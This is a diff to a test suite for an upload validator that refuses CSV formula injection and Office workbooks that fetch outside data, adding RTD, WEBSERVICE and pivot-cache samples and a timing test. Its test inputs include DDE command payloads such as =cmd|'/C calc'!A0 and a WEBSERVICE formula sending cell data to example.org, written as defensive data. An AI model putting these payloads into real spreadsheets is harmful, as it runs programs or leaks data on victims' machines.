@@ -65,6 +65,7 @@ describe('a file that is accepted', () => {
       () => 'a,b\n-5,=A1+B1\n"+49 30 1","@anna, @rosa"\n-1.5%,"High|Alert!"\n=Sheet2!A1,a|b',
     ],
     ['list.txt', 'text/plain', () => '- lunch | great!\n- DDE is no more used\n-- a||b! =c'],
+    ['shakes.txt', 'text/plain', () => '- RTD (ready to drink) at 10 am\n- rtd (Ready-to-drink), RTD (8 oz)'],
     ['ids.csv', 'text/csv', () => 'ID;Name;Room\nA;Eva;1\nC;Rosa;2\n'],
   ])('is known by its bytes and kept as it is: %s', async (name, type, make) => {
     const content = Buffer.from(await make());
@@ -171,6 +172,9 @@ describe('a file that is not accepted', () => {
     ["=cmd|'/C ''x y'''!ä"],
     ['a,b\n"=DDE(""soffice"";""/tmp/x"";""a"")",1\n'],
     ['a,b\n"=WEBSERVICE(""https://example.org/""&A1)",1\n'],
+    ['a,=WEBSERVICE(A1)\n'],
+    ['a,=WEBSERVICE( A1 B1)\n'],
+    ['a,=RTD (a b,c)\n'],
     [`${'a,b\n'.repeat(16_383)}=cmd|'/C calc'!A0`],
     [`a,"=""${'x'.repeat(20_000)}""&cmd|'/C calc'!A0"${','.repeat(100_000)}`],
   ])('is refused for a formula that fetches from another program: %#', async (content) => {
@@ -183,15 +187,23 @@ describe('a file that is not accepted', () => {
     expect(await refusalOf('a.csv', `${sylk}NN;NAuto_open;ER101C1;KOut Flank;F\r\nE\r\n`)).toBe(disguised);
   });
 
-  it.each([['-'], ['=|'], ["|'"], ['DDE '], ["=a|'b'!c "], ["'|'"], ["|'a'"], ['ID;\nC;;'], ['-1,']])(
-    'is looked through in no more time than others: %s',
-    async (text) => {
-      const content = text.repeat(2_000_000 / text.length);
-      const begunMs = performance.now();
-      await receive('a.csv', content).catch(() => undefined);
-      expect(performance.now() - begunMs).toBeLessThan(1000);
-    },
-  );
+  it.each([
+    ['-'],
+    ['=|'],
+    ["|'"],
+    ['DDE '],
+    ["=a|'b'!c "],
+    ["'|'"],
+    ["|'a'"],
+    ['ID;\nC;;'],
+    ['-1,'],
+    [`RTD(${'a '.repeat(1000)}`],
+  ])('is looked through in no more time than others: %s', async (text) => {
+    const content = text.repeat(2_000_000 / text.length);
+    const begunMs = performance.now();
+    await receive('a.csv', content).catch(() => undefined);
+    expect(performance.now() - begunMs).toBeLessThan(1000);
+  });
 
   it('is told from a password by its ending', async () => {
     expect(await refusalOf('old.doc', compoundFile)).toMatch(
@@ -469,6 +481,15 @@ describe('an Office file', () => {
         'pivotCache/pivotCacheDefinition1',
         '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
       ],
+      // Cells of another workbook, which a relationship names.
+      [
+        'pivotCache/pivotCacheDefinition1',
+        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a" r:id="rId1"/></cacheSource></pivotCacheDefinition>',
+      ],
+      [
+        'pivotCache/pivotCacheDefinition1',
+        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="consolidation"><consolidation><rangeSets><rangeSet ref="A1" sheet="a" r:id="rId1"/></rangeSets></consolidation></cacheSource></pivotCacheDefinition>',
+      ],
     ])('is refused where a workbook asks other computers: %s %s', async (part, xml) => {
       expect(await refusalOf('a.xlsx', await xlsx({ [`xl/${part}.xml`]: xml }))).toBe(asking);
     });
@@ -493,7 +514,9 @@ describe('an Office file', () => {
           'xl/connections.xml':
             '<connections><connection id="1" type="5" refreshOnLoad="0" interval="0"/></connections>',
           'xl/pivotCache/pivotCacheDefinition1.xml':
-            '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
+            '<pivotCacheDefinition r:id="rId1" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a"/></cacheSource></pivotCacheDefinition>',
+          'xl/pivotCache/pivotCacheDefinition2.xml':
+            '<pivotCacheDefinition><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a" r:id="rId1"/></cacheSource></pivotCacheDefinition>',
           'xl/worksheets/sheet1.xml': '<worksheet><c><f>PARTRTD(1)</f><t>WEBSERVICE(1)</t></c></worksheet>',
         }),
       );
